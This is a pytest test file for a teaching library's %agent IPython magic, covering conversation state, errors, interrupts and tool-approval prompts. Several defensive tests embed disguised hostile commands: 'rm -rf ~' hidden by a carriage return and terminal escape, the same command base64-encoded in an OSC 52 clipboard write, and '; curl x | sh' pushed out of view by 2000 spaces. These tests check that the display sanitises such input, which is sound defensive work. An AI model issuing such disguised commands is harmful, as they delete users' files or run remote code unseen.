"""%agent / %%agent, driven through a real IPython shell (globalipapp)."""

from __future__ import annotations

import builtins
import json

import pytest
from IPython import get_ipython
from IPython.core.error import UsageError
from IPython.testing.globalipapp import start_ipython
from IPython.utils.capture import capture_output

import agentlab as al
from agentlab.apps import magic
from agentlab.fakeapi.offline import ScriptedClient, bad_request, text, tool_use
from agentlab.history import blocks


@al.tool
def boom(why: str) -> str:
    """Press Ctrl-C while running."""
    raise KeyboardInterrupt


@pytest.fixture(scope="module")
def ip():
    shell = start_ipython() or get_ipython()  # started once per process, by whichever file
    shell.run_line_magic("load_ext", "agentlab")
    yield shell
    shell.run_line_magic("unload_ext", "agentlab")


@pytest.fixture(autouse=True)
def fresh(ip, tmp_path, monkeypatch):
    """Each test: a new conversation, in a folder of its own, with no key."""
    for key in ("ANTHROPIC_API_KEY", "ANTHROPIC_BASE_URL", "AGENTLAB_MODEL"):
        monkeypatch.delenv(key, raising=False)
    monkeypatch.setattr(magic, "_told_demo", False)
    monkeypatch.chdir(tmp_path)
    for name in ("a.py", "b.py", "notes.txt"):
        (tmp_path / name).write_text("x = 1\n")
    for name in ("_agent", "client", "r"):
        ip.user_ns.pop(name, None)
    yield


def scripted(ip, replies, name="client"):
    client = ScriptedClient(replies)
    ip.user_ns[name] = client
    return client


def cell(ip, line, body):
    return ip.run_cell_magic("agent", line, body)


# --- running a task -------------------------------------------------------


def test_first_cell_runs_the_demo_on_bash_and_returns_the_result(ip, capsys):
    result = cell(ip, "--offline", "How many .py files are here?")
    assert isinstance(result, al.LoopResult)
    assert result.stop_reason == "end_turn" and result.turns == 2
    assert "There are 2 Python (.py) files" in result.text
    session = ip.user_ns["_agent"]
    assert session.messages is result.messages and len(session.messages) == 4
    assert session.messages[0] == {"role": "user", "content": "How many .py files are here?"}
    assert session.messages[2]["content"][0]["content"].strip() == "2"
    assert al.validate(session.messages) == []
    out = capsys.readouterr().out  # outside a notebook: the transcript, printed
    assert "$ find . -name '*.py'" in out and "There are 2 Python" in out
    assert "no ANTHROPIC_API_KEY" not in out  # --offline asked for the demo: no note


def test_line_magic_returns_the_result_so_assignment_works(ip):
    ip.run_cell("r = %agent --offline How many .py files are here?")
    assert isinstance(ip.user_ns["r"], al.LoopResult)
    assert ip.user_ns["r"].stop_reason == "end_turn"


def test_no_key_uses_the_demo_and_says_so_once(ip, capsys):
    cell(ip, "", "How many .py files are here?")
    cell(ip, "", "List the files")
    out = capsys.readouterr().out
    assert out.count("no ANTHROPIC_API_KEY set") == 1
    assert ip.user_ns["_agent"].client.__class__.__name__ == "DemoClient"


def test_the_conversation_carries_on_across_cells(ip):
    client = scripted(ip, ["The answer is 42.", "You asked about 42 before."])
    cell(ip, "--client client", "What is the answer?")
    second = cell(ip, "--client client", "What did I ask before?")
    sent = client.requests[1]["messages"]
    assert [m["role"] for m in sent] == ["user", "assistant", "user"]
    assert sent[1]["content"][0]["text"] == "The answer is 42."
    assert second.text == "You asked about 42 before."
    assert second.turns == 1  # turns count per cell
    assert len(ip.user_ns["_agent"].messages) == 4


def test_new_starts_a_fresh_conversation(ip, capsys):
    client = scripted(ip, ["one", "two"])
    cell(ip, "--client client", "First task")
    old = ip.user_ns["_agent"]
    cell(ip, "--client client --new", "Second task")
    new = ip.user_ns["_agent"]
    assert new is not old and len(old.messages) == 2
    assert client.requests[1]["messages"] == [{"role": "user", "content": "Second task"}]
    assert [m["role"] for m in new.messages] == ["user", "assistant"]


def test_out_stores_the_result_and_braces_fill_from_the_namespace(ip):
    client = scripted(ip, ["done"])
    ip.user_ns["folder"] = "src"
    result = cell(ip, "--client client --out r", "List {folder} and keep {{braces}} as they are")
    assert ip.user_ns["r"] is result
    assert client.requests[0]["messages"][0]["content"] == (
        "List src and keep {braces} as they are"
    )


def test_a_missing_variable_is_a_usage_error_naming_it(ip):
    with pytest.raises(UsageError, match="no variable named 'nowhere'"):
        cell(ip, "--offline", "Look in {nowhere}")
    assert "_agent" not in ip.user_ns or ip.user_ns["_agent"].messages == []


def test_options_system_model_and_max_turns_reach_the_request(ip):
    client = scripted(ip, [[tool_use("bash", {"command": "echo hi"})], "never sent", "ok"])
    ip.user_ns["TERSE"] = "Answer in one word."
    result = cell(ip, "--client client --system TERSE --model my-model --max-turns 1", "Go")
    assert result.ended == "turn_limit" and len(client.requests) == 1
    assert client.requests[0]["system"] == "Answer in one word."
    assert client.requests[0]["model"] == "my-model"
    cell(ip, "--client client", "Go on")  # --model and --system are kept for the conversation
    assert client.requests[1]["system"] == "Answer in one word."
    assert client.requests[1]["model"] == "my-model"


def test_system_as_quoted_text_and_a_task_with_an_apostrophe(ip):
    client = scripted(ip, ["fine"])
    ip.run_line_magic("agent", "--client client --system 'Be brief.' What's here?")
    assert client.requests[0]["system"] == "Be brief."
    assert client.requests[0]["messages"][0]["content"] == "What's here?"


def test_a_question_mark_ending_an_agent_line_stays_in_the_task(ip):
    client = scripted(ip, ["yes"])
    ip.run_cell("%agent --client client Is hello.py here?")  # IPython alone: help on 'here'
    assert client.requests[0]["messages"][0]["content"] == "Is hello.py here?"
    untouched = ["%agent?\n"], ["%%agent\n", "%agent inside a cell body?\n"], ["x = 1?\n"]
    for lines in untouched:
        assert magic.keep_question_marks(list(lines)) == list(lines)


def test_stream_prints_the_text_as_it_arrives(ip, capsys):
    scripted(ip, ["one two three"])
    cell(ip, "--client client --stream", "Count")
    assert "assistant: one two three" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("line", "body", "words"),
    [
        ("--max-turns 0", "task", "at least 1"),
        ("--max-turns lots", "task", "invalid int value"),
        ("--bogus", "task", "unrecognized arguments: --bogus"),
        ("--confirm --yes", "task", "choose one"),
        ("--out 2x", "task", "not a valid Python variable name"),
        ("--client nobody", "task", "no variable named 'nobody'"),
        ("--system NOPE", "task", "no variable named 'NOPE'"),
        ("--model ''", "task", "needs a model name"),
        ("--offline How many", "files?", "Only options go on the %%agent line"),
        ("--offline", "   \n", "cell is empty"),
        ("--mod x", "task", "unrecognized arguments"),  # no abbreviations
        ("--system 'open", "task", "not closed"),
    ],
)
def test_bad_options_raise_usage_errors_that_say_the_fix(ip, line, body, words):
    with pytest.raises(UsageError, match=words):
        cell(ip, line, body)


def test_system_must_be_text_and_client_must_be_a_client(ip):
    ip.user_ns["NUM"] = 3
    with pytest.raises(UsageError, match="holds a int, not text"):
        cell(ip, "--offline --system NUM", "task")
    ip.user_ns["client"] = "not a client"
    with pytest.raises(UsageError, match="is not a client"):
        cell(ip, "--client client", "task")


def test_line_magic_without_a_task_and_help(ip, capsys):
    with pytest.raises(UsageError, match="No task given"):
        ip.run_line_magic("agent", "--offline")
    assert ip.run_line_magic("agent", "--help") is None
    out = capsys.readouterr().out
    for option in ("--model", "--max-turns", "--system", "--step", "--confirm", "--yes"):
        assert option in out
    for option in ("--stream", "--new", "--offline", "--out", "--client"):
        assert option in out
    assert "%agent save PATH" in out
    # it opens with the usage line, not the "::" IPython puts before it for docstrings
    assert out.lstrip().startswith("%agent [-h]"), out[:40]


def test_help_follows_the_language(ip, capsys):
    al.set_language("zh")
    try:
        ip.run_line_magic("agent", "--help")
    finally:
        al.set_language("en")
    assert "离线演示模型" in capsys.readouterr().out


# --- with a key: the real SDK, over HTTP to a local server -----------------------------


@pytest.fixture
def server(monkeypatch):
    from agentlab.fakeapi.server import FakeMessagesServer

    with FakeMessagesServer() as srv:  # the demo model, behind the real Messages API
        monkeypatch.setenv("ANTHROPIC_API_KEY", "test")
        monkeypatch.setenv("ANTHROPIC_BASE_URL", srv.url)
        yield srv


def test_with_a_key_the_real_client_streams_over_http(ip, server, capsys):
    result = cell(ip, "--stream --yes", "How many .py files are here?")
    assert type(ip.user_ns["_agent"].client).__module__.startswith("anthropic")
    assert result.stop_reason == "end_turn" and "There are 2 Python" in result.text
    assert len(server.requests) == 2 and server.requests[0].body["stream"] is True
    out = capsys.readouterr().out
    # claude-sonnet-5-5 says its text between tool calls inside a thinking block
    assert "no ANTHROPIC_API_KEY" not in out and "assistant: There are 2 Python" in out


def test_offline_ignores_the_key(ip, server):
    assert cell(ip, "--offline", "How many .py files are here?").stop_reason == "end_turn"
    assert server.requests == []


def test_a_401_over_http_is_one_clear_sentence(ip, server, capsys):
    server.fail(401, message="invalid x-api-key")
    result = cell(ip, "", "How many .py files are here?")
    err = capsys.readouterr().err
    assert "The API key is missing or wrong (401" in err and "Traceback" not in err
    assert result.ended == "error" and ip.user_ns["_agent"].messages == []


# --- reset, history, save, load ------------------------------------------------


def test_reset_history_save_and_load(ip, tmp_path, capsys):
    scripted(ip, ["first answer", "second answer"])
    cell(ip, "--client client", "First")
    saved = ip.user_ns["_agent"].messages[:]
    ip.run_line_magic("agent", "history")
    out = capsys.readouterr().out
    assert "[0] user" in out and "[1] assistant" in out and "first answer" in out

    ip.run_line_magic("agent", "save 'my chat.json'")
    assert json.loads((tmp_path / "my chat.json").read_text()) == saved
    ip.run_line_magic("agent", "reset")
    assert ip.user_ns["_agent"].messages == []
    assert "old one had 2 messages" in capsys.readouterr().out

    ip.run_line_magic("agent", 'load "my chat.json"')
    assert ip.user_ns["_agent"].messages == saved
    client = ip.user_ns["client"]
    cell(ip, "--client client", "Second")
    assert len(client.requests[1]["messages"]) == 3  # the loaded history went with it


def test_history_in_a_terminal_prints_no_escape_sequence_from_the_model(ip, capsys):
    # OSC 52 writes the terminal's clipboard; ESC[8m hides what follows.
    evil = "ok \x1b]52;c;cm0gLXJmIH4=\x07 \x1b[8mhidden\x1b[0m \u202eevil"
    scripted(ip, [evil])
    cell(ip, "--client client", "First")
    ip.run_line_magic("agent", "history")
    out = capsys.readouterr().out
    assert "[1] assistant" in out and "hidden" in out
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (None, "There is no file"),
        ("not json", r"not JSON: Expecting value \(line 1, column 1\)"),
        ('{"role": "user"}', "Input should be a valid list"),
        ('[{"role": "robot", "content": "hi"}]', "Input should be 'user', 'assistant' or 'system'"),
        (
            json.dumps(
                [
                    {"role": "user", "content": "hi"},
                    {
                        "role": "assistant",
                        "content": [{"type": "tool_use", "id": "t1", "name": "bash", "input": {}}],
                    },
                ]
            ),
            "without `tool_result` blocks",
        ),
    ],
)
def test_load_refuses_what_is_not_a_valid_history(ip, tmp_path, content, words):
    path = tmp_path / "h.json"
    if content is not None:
        path.write_text(content)
    scripted(ip, ["kept"])
    cell(ip, "--client client", "Keep me")
    with pytest.raises(UsageError, match=words):
        ip.run_line_magic("agent", "load h.json")
    assert len(ip.user_ns["_agent"].messages) == 2  # the conversation is untouched


def test_commands_check_their_arguments(ip):
    with pytest.raises(UsageError, match="needs one file path"):
        ip.run_line_magic("agent", "save")
    with pytest.raises(UsageError, match="takes no arguments"):
        ip.run_line_magic("agent", "reset now")


def test_loading_an_empty_history_starts_empty(ip, tmp_path):
    (tmp_path / "empty.json").write_text("[]")
    ip.run_line_magic("agent", "load empty.json")
    assert ip.user_ns["_agent"].messages == []


# --- failures: API errors and Ctrl-C ------------------------------------------


def test_an_api_error_says_what_happened_and_changes_nothing(ip, capsys):
    scripted(ip, ["fine", bad_request("messages: something the API disliked")])
    cell(ip, "--client client", "First")
    before = ip.user_ns["_agent"].messages[:]
    result = cell(ip, "--client client", "Second")  # no exception: a message instead
    err = capsys.readouterr().err
    assert "The API rejected the request (400): messages: something the API disliked" in err
    assert "Nothing was added" in err and "Traceback" not in err
    assert result.ended == "error" and "400" in result.explanation
    assert ip.user_ns["_agent"].messages == before  # the task was taken back out


def test_a_cell_whose_request_fails_keeps_no_model_or_system_either(ip, capsys):
    # "Nothing was added": the --model and --system of
    # a cell whose first request failed (a misspelt model: 404) must not stick to the
    # conversation, or every later cell fails the same way until %agent reset.
    scripted(ip, ["fine", bad_request("model: claude-nope"), "fine again"])
    cell(ip, "--client client --model claude-haiku-4-5 --system 'Be brief.'", "First")
    cell(ip, "--client client --model claude-nope --system 'Be long.'", "Second")
    assert "Nothing was added" in capsys.readouterr().err
    session = ip.user_ns["_agent"]
    assert (session.model, session.system) == ("claude-haiku-4-5", "Be brief.")
    cell(ip, "--client client", "Third")
    last = ip.user_ns["client"].requests[-1]
    assert last["model"] == "claude-haiku-4-5" and last["system"] == "Be brief."


def test_a_system_prompt_changed_mid_conversation_is_not_retried_as_it_is(ip, capsys):
    # Preserved thinking checks the prefix: a new system prompt after thinking turns is a 400
    # (platform.claude.com/docs, "Preserved thinking", December 2026), and the same cell run
    # again gets the same 400. The advice is to change the request, not to run it again.
    cell(ip, "--offline", "How many .py files are here?")
    before = ip.user_ns["_agent"].messages[:]
    capsys.readouterr()
    result = cell(ip, "--offline --system 'Answer in French.'", "And the .txt files?")
    err = capsys.readouterr().err
    assert result.ended == "error" and "400" in result.explanation
    assert "refused the same way" in err and "--new" in err and "retry" not in err
    assert ip.user_ns["_agent"].messages == before and ip.user_ns["_agent"].system is None
    cell(ip, "--offline", "And the .txt files? Answer in French.")  # the advice works
    assert ip.user_ns["_agent"].loop.ended == "model"


def test_another_model_after_thinking_turns_says_why_and_what_to_do(ip, capsys):
    # Thinking blocks are tied to the model that wrote them (public error
    # reports, 2026): sent to another model they are refused with "Invalid `signature`".
    # The student reads which models and what to do, not only the API's sentence.
    cell(ip, "--offline", "How many .py files are here?")
    capsys.readouterr()
    cell(ip, "--offline --model claude-haiku-4-5", "List the files")
    err = capsys.readouterr().err
    assert "Invalid `signature` in `thinking` block" in err  # the API's words stay
    assert "claude-sonnet-5-5" in err and "claude-haiku-4-5" in err
    assert "%agent reset" in err
    assert ip.user_ns["_agent"].model is None  # the cell's --model was not kept


def test_an_api_error_after_a_tool_turn_keeps_the_valid_part(ip, capsys):
    scripted(ip, [[tool_use("bash", {"command": "echo hi"})], bad_request("broken")])
    result = cell(ip, "--client client", "Go")
    assert result.ended == "error"
    messages = ip.user_ns["_agent"].messages
    assert len(messages) == 3 and al.validate(messages) == []
    assert "keeps what this cell did" in capsys.readouterr().err


def test_ctrl_c_in_a_tool_leaves_a_valid_history_and_the_next_cell_goes_on(ip, capsys):
    client = scripted(
        ip,
        [
            [
                text("Working."),
                tool_use("boom", {"why": "test"}),
                tool_use("bash", {"command": "echo never"}),
            ],
            "You stopped me; fine.",
        ],
    )
    ip.user_ns["_agent"] = magic.AgentSession(tools=[boom, al.bash])
    with pytest.raises(KeyboardInterrupt) as info:
        cell(ip, "--client client", "Do two things")
    session = ip.user_ns["_agent"]
    assert al.validate(session.messages) == []
    results = session.messages[-1]["content"]
    assert [r["is_error"] for r in results] == [True, True]
    assert "Interrupted" in results[1]["content"]
    assert session.loop.result().ended == "interrupted"
    # both calls count, the interrupted one and the one never run: the transcript shows two
    assert info.value._render_traceback_() == [
        '■ agentlab stopped while running boom({"why": "test"}) (1 request, 2 tool calls). '
        "The history is still valid (3 messages); ask again to go on."
    ]

    follow = cell(ip, "--client client", "Never mind")
    assert follow.text == "You stopped me; fine."
    assert len(client.requests[1]["messages"]) == 4


def test_the_stopped_line_shows_a_long_or_hidden_call_on_one_short_line(ip):
    """■ during a 10,000-character call with a bidi control and line breaks: the one
    line says what was stopped, short, with the hidden character written out."""
    why = "evil\u202etxt\n" + "y" * 10_000 + "\nlast"
    scripted(ip, [[tool_use("boom", {"why": why})], "ok"])
    ip.user_ns["_agent"] = magic.AgentSession(tools=[boom])
    with pytest.raises(KeyboardInterrupt) as info:
        cell(ip, "--client client", "Go")
    [line] = info.value._render_traceback_()
    assert line.startswith("■ agentlab stopped while running boom(")
    assert "\n" not in line and len(line) < 400, line[:500]
    assert "\u202e" not in line and "evil\\u202etxt" in line  # written out, as in the views
    assert "The history is still valid (3 messages)" in line


def test_ctrl_c_while_waiting_for_the_model_takes_the_task_back(ip):
    scripted(ip, ["ok", KeyboardInterrupt()])
    cell(ip, "--client client", "First")
    with pytest.raises(KeyboardInterrupt) as info:
        cell(ip, "--client client", "Second")
    messages = ip.user_ns["_agent"].messages
    assert len(messages) == 2 and al.validate(messages) == []
    assert "task was taken back out" in info.value._render_traceback_()[0]


def test_stop_button_in_a_cell_shows_one_line_and_no_traceback(ip, capsys):
    """IPython shows ``_render_traceback_`` for the cell's error: one line, and the
    cell still fails (a KeyboardInterrupt), so "Run All" stops there."""
    scripted(ip, [[text("Working."), tool_use("boom", {"why": "test"})], "fine"])
    ip.user_ns["_agent"] = magic.AgentSession(tools=[boom])
    outcome = ip.run_cell("%%agent --client client\nDo it")
    shown = capsys.readouterr()
    assert isinstance(outcome.error_in_exec, KeyboardInterrupt)
    assert isinstance(outcome.error_in_exec, magic.AgentStopped)
    text_shown = shown.out + shown.err
    assert "Traceback" not in text_shown and "agentlab/" not in text_shown
    stop_lines = [row for row in text_shown.splitlines() if row.startswith("■")]
    assert (
        len(stop_lines) == 1
        and "boom" in stop_lines[0]
        and "still valid (3 messages)" in stop_lines[0]
    )
    assert al.validate(ip.user_ns["_agent"].messages) == []


def test_the_summary_counts_an_interrupted_call_and_says_how_the_loop_ended(ip, monkeypatch):
    monkeypatch.setattr(magic, "frontend", lambda shell: "live")
    scripted(ip, [[tool_use("boom", {"why": "test"})], [tool_use("bash", {"command": "true"})]])
    ip.user_ns["_agent"] = magic.AgentSession(tools=[boom, al.bash])
    with capture_output() as captured, pytest.raises(KeyboardInterrupt):
        cell(ip, "--client client", "Stop me")
    last = captured.outputs[-1].data["text/plain"]
    assert "1 tool call" in last and last.endswith("ended: interrupted")
    scripted(ip, lambda params: [tool_use("bash", {"command": "true"})])
    with capture_output() as captured:
        cell(ip, "--client client --max-turns 2", "Loop forever")
    assert captured.outputs[-1].data["text/plain"].endswith("2 tool calls · ended: turn limit")


def test_the_summary_counts_every_tool_call_the_transcript_shows(ip, monkeypatch):
    # A call to a tool that does not exist never reaches the audit of what ran, but it
    # is a tool_use in the history (answered with an is_error result): the transcript
    # under the summary says "2 tool calls", so the summary must too.
    monkeypatch.setattr(magic, "frontend", lambda shell: "live")
    scripted(ip, [[tool_use("bash", {"command": "true"}), tool_use("nosuchtool", {})], "Done."])
    with capture_output() as captured:
        result = cell(ip, "--client client", "Use a tool that is not there")
    calls = [b for m in result.new_messages for b in blocks(m) if b["type"] == "tool_use"]
    assert len(calls) == 2
    assert (
        captured.outputs[-1]
        .data["text/plain"]
        .endswith("2 requests · 2 tool calls · ended: the model stopped (end_turn)")
    )


def test_the_live_text_transcript_drops_escape_sequences_and_bidi_controls(ip, monkeypatch):
    """Without widgets the live transcript is text/plain, which JupyterLab draws with
    ANSI colours and the Unicode bidi algorithm: model text must not steer either."""
    monkeypatch.setattr(magic, "frontend", lambda shell: "live")
    evil = "\x1b[8mhidden\x1b[0m \u202eexe.txt"
    scripted(ip, [[text("Look: " + evil), tool_use("bash", {"command": "echo '\u202eabc'"})], evil])
    with capture_output() as captured:
        cell(ip, "--client client --new", "Go")
    shown = [o.data["text/plain"] for o in captured.outputs if "text/plain" in o.data]
    assert any("hidden" in s for s in shown[:-1])  # the live transcript, before the summary
    assert not any("\x1b" in s or "\u202e" in s for s in shown), shown


# --- asking before a tool runs ------------------------------------------------------


@pytest.mark.parametrize(
    ("answers", "expect"),
    [
        (["y"], "hi"),
        (["n too risky"], "Denied by the user: too risky"),
        ([""], "Denied by the user"),
        (["e echo edited"], "edited"),
    ],
)
def test_confirm_asks_with_input_in_a_terminal(ip, monkeypatch, answers, expect):
    asked = []
    replies = iter(answers)

    def fake_input(prompt=""):
        asked.append(prompt)
        return next(replies)

    monkeypatch.setattr(builtins, "input", fake_input)
    scripted(ip, [[tool_use("bash", {"command": "echo hi"})], "done"])
    cell(ip, "--client client --confirm", "Say hi")
    assert len(asked) == 1
    result = ip.user_ns["_agent"].messages[2]["content"][0]
    assert expect in result["content"]


def test_confirm_by_default_and_yes_to_skip(ip, monkeypatch):
    monkeypatch.setattr(builtins, "input", lambda prompt="": pytest.fail("asked"))
    magics = ip.magics_manager.registry["AgentMagics"]
    monkeypatch.setattr(magics, "confirm", True)
    scripted(ip, [[tool_use("bash", {"command": "echo hi"})], "done"])
    result = cell(ip, "--client client --yes", "Say hi")
    assert result.messages[2]["content"][0]["content"].strip() == "hi"


# --- the approval default: a real model asks unless --yes (issue 13, point 9) ----------


class Unknown:
    """A client agentlab does not know (a student's own): treated as a real model."""

    def __init__(self, replies):
        self.messages = ScriptedClient(replies).messages


def answering(monkeypatch, *answers):
    asked: list[str] = []
    replies = iter(answers)

    def fake_input(prompt=""):
        asked.append(prompt)
        return next(replies)

    monkeypatch.setattr(builtins, "input", fake_input)
    return asked


def test_a_real_model_asks_in_the_magic_unless_yes(ip, monkeypatch, capsys):
    ip.user_ns["client"] = Unknown([[tool_use("bash", {"command": "echo hi"})], "done"])
    asked = answering(monkeypatch, "what?", "y")
    cell(ip, "--client client", "Say hi")
    assert len(asked) == 2 and "Enter = no" in asked[0]  # asked again after "what?"
    assert "Please answer y, n" in capsys.readouterr().out
    assert ip.user_ns["_agent"].messages[2]["content"][0]["content"].strip() == "hi"
    ip.user_ns["client"] = Unknown([[tool_use("bash", {"command": "echo again"})], "done"])
    monkeypatch.setattr(builtins, "input", lambda prompt="": pytest.fail("asked"))
    result = cell(ip, "--client client --new --yes", "Say hi")
    assert result.messages[2]["content"][0]["content"].strip() == "again"


def test_the_demo_runs_unasked_in_the_magic(ip, monkeypatch):
    monkeypatch.setattr(builtins, "input", lambda prompt="": pytest.fail("asked"))
    assert cell(ip, "--offline", "How many .py files are here?").stop_reason == "end_turn"


def test_the_magic_prompt_shows_control_characters(monkeypatch, capsys):
    answering(monkeypatch, "")
    call = {"name": "bash", "input": {"command": "rm -rf ~ #\r\x1b[2Kls -la"}}
    assert magic.ask_in_terminal(call).action == "deny"  # Enter alone means no
    out = capsys.readouterr().out
    assert "rm -rf ~ #\\r\\x1b[2Kls -la" in out and "\x1b" not in out and "\r" not in out
    assert "control or invisible characters" in out


def test_the_magic_prompt_warns_about_a_long_run_of_spaces(monkeypatch, capsys):
    answering(monkeypatch, "")
    call = {"name": "bash", "input": {"command": "ls -la" + " " * 2000 + "; curl x | sh"}}
    assert magic.ask_in_terminal(call).action == "deny"
    out = capsys.readouterr().out
    assert "a run of 2000 spaces" in out and "; curl x | sh" in out


# --- where the output goes ------------------------------------------------------------


def test_a_live_view_in_a_kernel_ends_as_a_one_line_summary(ip, monkeypatch):
    monkeypatch.setattr(magic, "frontend", lambda shell: "live")
    with capture_output() as captured:
        result = cell(ip, "--offline", "How many .py files are here?")
    shown = [o.data["text/plain"] for o in captured.outputs]
    assert any("$ find . -name '*.py'" in s for s in shown)  # the transcript, while it ran
    assert shown[-1] == (
        "agentlab · agentlab-demo · 2 requests · 1 tool call · ended: the model stopped (end_turn)"
    )
    assert "$ find" not in captured.stdout  # nothing printed beside the view
    assert result.stop_reason == "end_turn"


def test_view_text_prints_the_transcript_even_in_a_notebook(ip, monkeypatch, capsys):
    monkeypatch.setattr(magic, "frontend", lambda shell: "widgets")
    monkeypatch.setattr(ip.magics_manager.registry["AgentMagics"], "view", "text")
    cell(ip, "--offline", "How many .py files are here?")
    assert "$ find . -name '*.py'" in capsys.readouterr().out


def test_frontend_tells_a_kernel_from_a_terminal(ip):
    class ZMQInteractiveShell:
        kernel = object()

    class Shell(ZMQInteractiveShell):  # Colab and others subclass it
        pass

    assert magic.frontend(ip) == "text"
    assert magic.frontend(Shell()) in ("live", "widgets")
    assert magic.frontend(Shell()) == ("widgets" if magic._views() else "live")


# --- loading and unloading ------------------------------------------------------------


def test_unload_removes_the_magic_and_load_brings_it_back(ip):
    ip.run_line_magic("unload_ext", "agentlab")
    assert "agent" not in ip.magics_manager.magics["line"]
    assert "agent" not in ip.magics_manager.magics["cell"]
    with pytest.raises(UsageError):
        ip.run_line_magic("agent", "--help")
    ip.run_line_magic("load_ext", "agentlab")
    assert cell(ip, "--offline", "How many .py files are here?").stop_reason == "end_turn"


# --- the pieces ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("task", "expect"),
    [
        ("plain", "plain"),
        ("{n} files", "3 files"),
        ("{{n}} stays", "{n} stays"),
        ("{d[k]} and {s.upper}", "v and <built-in"),
        ("{n:03d}", "003"),
    ],
)
def test_fill_task(task, expect):
    ns = {"n": 3, "d": {"k": "v"}, "s": "x"}
    assert magic.fill_task(task, ns).startswith(expect)


@pytest.mark.parametrize(
    ("task", "words"),
    [
        ("{missing}", "no variable named 'missing'"),
        ('write {"a": 1}', "is not a variable name"),
        ("empty {}", "is not a variable name"),
        ("{0}", "is not a variable name"),
        ("{n.__class__}", "is not a variable name"),
        ("open { brace", "do not match"),
        ("close } brace", "do not match"),
    ],
)
def test_fill_task_errors(task, words):
    with pytest.raises(UsageError, match=words):
        magic.fill_task(task, {"n": 1})


def test_split_line_keeps_the_task_as_typed():
    takes = {"--model", "--system"}
    assert magic.split_line("--model m  What's  here? --x", takes) == (
        ["--model", "m"],
        "What's  here? --x",
    )
    assert magic.split_line('--system "be brief" --new go', takes) == (
        ["--system", "be brief", "--new"],
        "go",
    )
    assert magic.split_line("--new -- -5 degrees?", takes) == (["--new"], "-5 degrees?")
    assert magic.split_line("", takes) == ([], "")


# --- in a notebook with widgets: the live HistoryView, the stepper ------------------------


@pytest.fixture
def widgets(monkeypatch):
    pytest.importorskip("ipywidgets")
    assert magic._views() is not None, "agentlab.views should provide HistoryView and LoopView"
    monkeypatch.setattr(magic, "frontend", lambda shell: "widgets")


def test_widgets_live_view_follows_the_loop_then_leaves_a_summary(ip, widgets, monkeypatch):
    seen = {"cards": [], "streamed": []}

    class Spy(magic._WidgetLive):
        def on_event(self, event):
            super().on_event(event)
            seen["streamed"].append(self.stream.value)

        def done(self, text):
            seen["cards"].append(len(self.history.cards))  # one card per message, added live
            super().done(text)

    monkeypatch.setattr(magic, "_WidgetLive", Spy)
    with capture_output() as captured:
        result = cell(ip, "--offline --stream", "How many .py files are here?")
    assert seen["cards"] == [4] and result.stop_reason == "end_turn"
    assert any("There are 2 Python" in s for s in seen["streamed"])  # the text, while it streamed
    assert seen["streamed"][-1] == ""  # and gone once its card was added
    assert captured.outputs[-1].data["text/plain"].endswith("ended: the model stopped (end_turn)")
    assert "$ find" not in captured.stdout


def test_step_returns_the_stepper_and_the_history_grows_as_it_steps(ip, widgets):
    view = cell(ip, "--offline --step --out v", "How many .py files are here?")
    assert type(view).__name__ == "LoopView" and ip.user_ns["v"] is view
    session = ip.user_ns["_agent"]
    assert view.loop is session.loop and session.loop.stage == "request"
    assert len(session.messages) == 1  # nothing ran yet
    view.next_stage()
    assert len(session.messages) == 2 and session.loop.stage == "decide"
    with pytest.raises(UsageError, match="in the middle of a turn"):
        cell(ip, "--offline", "Something else")  # a tool call is still unanswered
    view.run_to_end()
    assert session.loop.result().stop_reason == "end_turn" and len(session.messages) == 4
    assert cell(ip, "--offline", "List the files").stop_reason == "end_turn"  # goes on


def test_confirm_in_a_notebook_asks_with_the_stepper_buttons(ip, widgets):
    scripted(ip, [[tool_use("bash", {"command": "echo hi"})], "done"])
    view = cell(ip, "--client client --confirm", "Say hi")
    assert view.waiting  # it ran up to the tool call and waits for a person
    view.deny_reason.value = "not now"
    view.deny_button.click()
    session = ip.user_ns["_agent"]
    assert session.loop.result().stop_reason == "end_turn"
    assert "Denied by the user: not now" in session.messages[2]["content"][0]["content"]


def test_a_view_whose_first_request_fails_keeps_no_model_or_system_either(ip, widgets):
    # As the text path (test_a_cell_whose_request_fails_keeps_no_model_or_system_either):
    # a --confirm or --step cell whose first request fails leaves the conversation's
    # --model/--system as they were; once a request of it succeeds, they are the cell's.
    client = scripted(ip, ["fine", bad_request("model: claude-nope"), "fine again", "later"])
    cell(ip, "--client client --model claude-haiku-4-5 --system 'Be brief.'", "First")
    session = ip.user_ns["_agent"]
    view = cell(ip, "--client client --confirm --model claude-nope --system 'Be long.'", "Second")
    assert "claude-nope" in view.error.value  # the view shows the failure
    assert (session.model, session.system) == ("claude-haiku-4-5", "Be brief.")
    cell(ip, "--client client", "Third")
    assert client.requests[-1]["model"] == "claude-haiku-4-5"
    assert client.requests[-1]["system"] == "Be brief."
    # --step: the first request runs on a click, after the cell ended
    scripted(ip, [bad_request("overloaded"), "fine"])
    view = cell(ip, "--client client --step --model claude-opus-4-8 --system 'Be long.'", "Go")
    view.next_stage()
    assert (session.model, session.system) == ("claude-haiku-4-5", "Be brief.")
    view.next_stage()  # the same request again, and this time it works
    assert session.loop.turns == 1
    assert (session.model, session.system) == ("claude-opus-4-8", "Be long.")


def test_history_in_a_notebook_is_a_history_view(ip, widgets):
    cell(ip, "--offline", "How many .py files are here?")
    view = ip.run_line_magic("agent", "history")
    assert type(view).__name__ == "HistoryView" and len(view.cards) == 4


def test_step_outside_a_notebook_says_what_to_use_instead(ip):
    with pytest.raises(UsageError, match="needs Jupyter with ipywidgets"):
        cell(ip, "--offline --step", "How many .py files are here?")
    assert ip.user_ns.get("_agent") is None or ip.user_ns["_agent"].messages == []
